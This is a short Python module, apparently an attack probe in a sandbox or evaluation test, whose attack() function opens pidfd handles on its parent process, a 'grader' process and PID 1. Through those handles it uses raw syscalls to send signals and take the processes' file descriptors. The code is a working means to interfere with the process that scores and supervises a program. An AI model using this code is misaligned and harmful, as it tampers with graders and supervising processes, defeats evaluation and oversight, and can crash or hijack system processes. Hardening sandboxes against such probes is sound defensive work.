"""Opens handles on the grader and the zygote by pidfd_open, signals through them and takes their descriptors."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def c(number, *args):
    """Make one raw system call; raise OSError where it fails."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in args]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    for pid in (os.getppid(), TARGETS["grader_pid"], 1):
        try:
            handle = os.pidfd_open(pid)
        except OSError:
            continue
        told = [f"pidfd_open on {pid}"]
        for call in ((424, handle, 0, 0, 0), (438, handle, 0, 0)):
            try:
                c(*call)
                told.append(f"call {call[0]} through it")
            except OSError:
                continue
        os.close(handle)
        return ", ".join(told)
